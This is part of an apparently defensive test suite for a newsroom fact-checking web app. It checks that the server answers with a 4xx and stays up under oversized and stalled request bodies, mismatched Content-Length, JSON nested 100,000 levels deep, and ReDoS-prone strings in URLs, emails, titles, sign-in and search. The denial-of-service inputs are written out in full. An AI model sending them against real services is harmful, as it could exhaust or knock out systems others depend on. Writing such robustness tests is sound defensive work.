  it('refuses bodies over 256 KB with 413, whatever Content-Length says; a body that never comes holds up nobody else', async () => {
    const before = await snapshot()
    const big = JSON.stringify({ body: 'x'.repeat(300 * 1024) })
    const plain = await send(notePath(), { method: 'POST', cookie: as(A.checker), body: big, headers: { 'Content-Type': 'application/json' } })
    expect(plain.status).toBe(413)

    // Declared and sent: 413 (Next.js reads a body before its proxy runs, keeping at most 10 MB of it).
    const declared = await raw(
      notePath(),
      { Cookie: as(A.checker), 'Content-Type': 'application/json', 'Content-Length': String(4 * 1024 * 1024) },
      (s) => s.write('x'.repeat(4 * 1024 * 1024)),
    )
    expect(declared.status).toBe(413)

    // Declared and never sent: that connection waits (until Node's request timeout), nobody else does.
    const { hostname, port } = new URL(server.url)
    const stalled = connect(Number(port), hostname)
    await new Promise((resolve) => stalled.once('connect', resolve))
    stalled.write(
      `POST ${notePath()} HTTP/1.1\r\nHost: ${hostname}:${port}\r\nCookie: ${as(A.checker)}\r\nContent-Type: application/json\r\nContent-Length: 10485760\r\n\r\n{"body":"x"`,
    )
    try {
      expect((await send('/api/articles', { cookie: as(A.checker), timeout: 10_000 })).status).toBe(200)
    } finally {
      stalled.destroy()
    }

    // No Content-Length (chunked), 16 MB: refused with 413 (the proxy stage reads it, keeping at most 10 MB).
    const OFFERED = 16 * 1024 * 1024
    const chunked = await raw(
      notePath(),
      { Cookie: as(A.checker), 'Content-Type': 'application/json', 'Transfer-Encoding': 'chunked' },
      (socket) => {
        const chunk = `${(64 * 1024).toString(16)}\r\n${'x'.repeat(64 * 1024)}\r\n`
        let sent = 0
        const pump = () => {
          if (socket.destroyed) return
          if (sent >= OFFERED) return void socket.write('0\r\n\r\n')
          sent += 64 * 1024
          if (socket.write(chunk)) setImmediate(pump)
          else socket.once('drain', pump)
        }
        socket.write(`1\r\n{\r\n`)
        pump()
      },
      60_000,
    )
    expect(chunked.status).toBe(413)

    // Declared small, sent big: only the declared bytes are the body (malformed JSON), the rest is not a request.
    const lying = await raw(notePath(), { Cookie: as(A.checker), 'Content-Type': 'application/json', 'Content-Length': '20' }, (s) => s.write(big))
    expect(lying.status).toBeGreaterThanOrEqual(400)
    expect(lying.status).toBeLessThan(500)

    expect((await send('/login')).status).toBe(200)
    expect(await snapshot()).toEqual(before)
  }, 60_000)

  it('answers 4xx, not 5xx, to 100,000 levels of nesting, and stays up', async () => {
    const before = await snapshot()
    const nest = (depth: number, inner: string, wrap: (s: string) => string) => {
      let s = inner
      for (let i = 0; i < depth; i++) s = wrap(s)
      return s
    }
    const arrays = '['.repeat(100_000) + ']'.repeat(100_000)
    const revision = await getLatestRevision(A.checker, A.article)
    // [method, path, body, the status it must get]
    const cases: [string, string, string, number][] = [
      ['POST', notePath(), arrays, 422],
      ['POST', notePath(), `{"body":${arrays}}`, 422],
      ['PATCH', `/api/claims/${A.approved}`, `{"version":1,"summary":${arrays}}`, 422],
      ['POST', '/api/imports/preview', `{"content":${arrays}}`, 422],
      ['POST', '/api/articles', `{"content":"x","keep":${arrays},"meta":{"title":"T"}}`, 422],
      [
        'POST',
        `/api/articles/${A.article}/revisions`,
        `{"baseRevisionId":"${revision.id}","doc":${nest(100_000, '{"type":"text","text":"x"}', (s) => `{"type":"paragraph","content":[${s}]}`)}}`,
        422,
      ],
      ['POST', `/api/articles/${A.article}/import?format=w3c`, nest(100_000, '{}', (s) => `{"type":"AnnotationCollection","first":${s}}`), 422],
      ['POST', `/api/articles/${A.article}/import?format=w3c`, `{"type":"AnnotationPage","items":${arrays}}`, 422],
      ['PUT', '/api/admin/settings', `{"displayName":"x","verdictScale":${nest(20_000, '1', (s) => `{"TRUE":${s}}`)}}`, 422],
      ['PUT', `/api/articles/${A.article}/presence`, `{"connectionId":${arrays}}`, 422],
    ]
    for (const [method, path, body, status] of cases) {
      const response = await send(path, { method, cookie: as(A.admin), body, headers: { 'Content-Type': 'application/json' } })
      expect(response.status, `${method} ${path} ${body.slice(0, 40)}: ${response.text.slice(0, 200)}`).toBe(status)
    }
    // An annotation whose target is 100,000 arrays deep is read, found unanchorable, and listed: nothing is stored.
    const unanchorable = await send(`/api/articles/${A.article}/import?format=w3c`, {
      method: 'POST',
      cookie: as(A.admin),
      body: `{"type":"Annotation","target":${arrays},"body":${arrays}}`,
      headers: { 'Content-Type': 'application/json' },
    })
    expect(unanchorable.status).toBeLessThan(500)
    expect((await send('/api/articles', { cookie: as(A.checker) })).status).toBe(200)
    expect(await snapshot()).toEqual(before)
  }, 60_000)
})

// ---------------------------------------------------------------------------------------------
describe('ReDoS-prone input', () => {
  it('long pathological strings in URL, email and text fields get a prompt 4xx', async () => {
    const before = await snapshot()
    const longUrl = `http://${'a'.repeat(100_000)}!`
    const cases: [string, string, unknown, Actor?][] = [
      ['POST', `/api/claims/${A.approved}/sources`, { url: longUrl, title: 'x' }],
      ['POST', `/api/claims/${A.approved}/sources`, { url: `https://${'a.'.repeat(50_000)}`, title: 'x' }],
      ['POST', `/api/claims/${A.approved}/sources`, { url: `http://x/${'%'.repeat(100_000)}`, title: 'x' }],
      ['POST', `/api/claims/${A.approved}/sources`, { url: 'https://ok.example/', title: 'x', archivedUrl: `https://${'@'.repeat(50_000)}` }],
      ['POST', `/api/claims/${A.approved}/sources`, { url: 'https://ok.example/', title: ' '.repeat(200_000) }],
      ['POST', `/api/claims/${A.approved}/notes`, { body: ' '.repeat(200_000) }],
      ['POST', `/api/claims/${A.approved}/notes`, { body: '@'.repeat(50_000) }],
      ['PATCH', `/api/claims/${A.approved}`, { version: 1, claimant: 'a'.repeat(100_000) + '!' }],
      ['POST', '/api/articles', { content: 'Text.', format: 'text', keep: [], meta: { title: 'T', url: longUrl } }],
      ['POST', '/api/articles', { content: 'Text.', format: 'text', keep: [], meta: { title: 'T', language: 'en-' + 'a1-'.repeat(30_000) } }],
      ['POST', '/api/articles', { content: ' '.repeat(200_000), format: 'text', keep: [], meta: { title: 'T' } }],
      ['POST', '/api/admin/members', { name: 'x', email: '@'.repeat(50_000), role: 'CHECKER' }, A.admin],
      ['POST', '/api/admin/members', { name: 'x', email: `${'a'.repeat(100_000)}@x`, role: 'CHECKER' }, A.admin],
      ['POST', '/api/admin/members', { name: 'x', email: `a@${'a-'.repeat(50_000)}`, role: 'CHECKER' }, A.admin],
    ]
    for (const [method, path, json, actor = A.checker] of cases) {
      const response = await send(path, { method, cookie: as(actor), json, timeout: 10_000 })
      expect(response.status, `${method} ${path} ${JSON.stringify(json).slice(0, 60)}`).toBeGreaterThanOrEqual(400)
      expect(response.status).toBeLessThan(500)
    }
    expect(await snapshot()).toEqual(before)
  }, 120_000)

  it('pathological article text previews promptly, in every format', async () => {
    const contents = [
      'a'.repeat(100_000) + '!',
      '@'.repeat(50_000),
      '<'.repeat(100_000),
      '<a '.repeat(30_000),
      '*_'.repeat(50_000),
      '['.repeat(50_000) + '](',
      '`'.repeat(100_000),
      `${'http://'.repeat(10_000)}x`,
      '\n'.repeat(100_000) + 'x',
      ' \t'.repeat(100_000) + 'x',
      'Read more: '.repeat(10_000),
      '© '.repeat(50_000),
    ]
    for (const format of ['text', 'markdown', 'html']) {
      for (const content of contents) {
        const response = await send('/api/imports/preview', { method: 'POST', cookie: as(A.checker), json: { content, format }, timeout: 10_000 })
        expect(response.status, `${format} ${content.slice(0, 20)}`).toBeLessThan(500)
      }
    }
  }, 180_000)

  // The outside review's inputs (issue 16, item 1): format sniffing backtracked exponentially on
  // leading comments and quadratically on brackets; the <title> split was quadratic in a run of
  // spaces. Each took seconds to hours of the one event loop every newsroom shares.
  it("the review's import inputs preview promptly: comments, brackets, a title padded with em spaces", async () => {
    const emSpaces = '\u2003'.repeat(100_000)
    const cases: [string, unknown][] = [
      ['40 empty comments', { content: `${'<!---->'.repeat(40)}x` }],
      ['200 KB of [', { content: '['.repeat(200_000) }],
      ['200 KB of [x](', { content: '[x]('.repeat(50_000) }],
      ['**x ** runs', { content: '**x '.repeat(50_000) }],
      ['spaces before Image:', { content: `a${' '.repeat(200_000)}Image:x\nb` }],
      ['agency trailer', { content: `Text.\n\n(AP,${'KNA,'.repeat(40)}x` }],
      [
        'title of em spaces',
        {
          content: `<html><head><meta property="og:site_name" content="Site"><title>a${emSpaces}b${emSpaces}| Site</title></head><body><p>Text.</p></body></html>`,
        },
      ],
    ]
    for (const [label, json] of cases) {
      const started = performance.now()
      const response = await send('/api/imports/preview', { method: 'POST', cookie: as(A.checker), json, timeout: 5_000 })
      console.info(`import preview, ${label}: ${response.status} in ${Math.round(performance.now() - started)} ms`)
      expect(response.status, label).toBe(200)
    }
  }, 120_000)

  it('pathological sign-in input and search queries answer promptly', async () => {
    const csrf = await fetch(`${server.url}/api/auth/csrf`)
    const csrfCookie = csrf.headers
      .getSetCookie()
      .map((c) => c.split(';')[0])
      .join('; ')
    const { csrfToken } = (await csrf.json()) as { csrfToken: string }
    const before = await getDb().loginAttempt.count()
    for (const email of ['@'.repeat(50_000), `${'a'.repeat(100_000)}@x`, ' '.repeat(200_000), `a@${'a-'.repeat(50_000)}.x`]) {
      const response = await fetch(`${server.url}/api/auth/callback/credentials`, {
        method: 'POST',
        redirect: 'manual',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'X-Forwarded-For': '192.0.2.77', Cookie: csrfCookie },
        body: new URLSearchParams({ csrfToken, email, password: 'x'.repeat(100_000) }),
        signal: AbortSignal.timeout(10_000),
      })
      expect(response.status).toBeLessThan(500)
      expect(response.headers.getSetCookie().some((c) => c.includes('session-token'))).toBe(false)
      await response.arrayBuffer()
    }
    // They went through the credentials check (and count as failures), not around it.
    expect(await getDb().loginAttempt.count()).toBe(before + 4)
    for (const q of ['"'.repeat(500), '-'.repeat(500), 'a | '.repeat(120), '('.repeat(500), "'&:*!".repeat(80), 'a'.repeat(501)]) {
      const response = await send(`/api/search?q=${encodeURIComponent(q)}`, { cookie: as(A.checker), timeout: 10_000 })
      expect(response.status, q.slice(0, 20)).toBeLessThan(500)
    }
  }, 60_000)
})
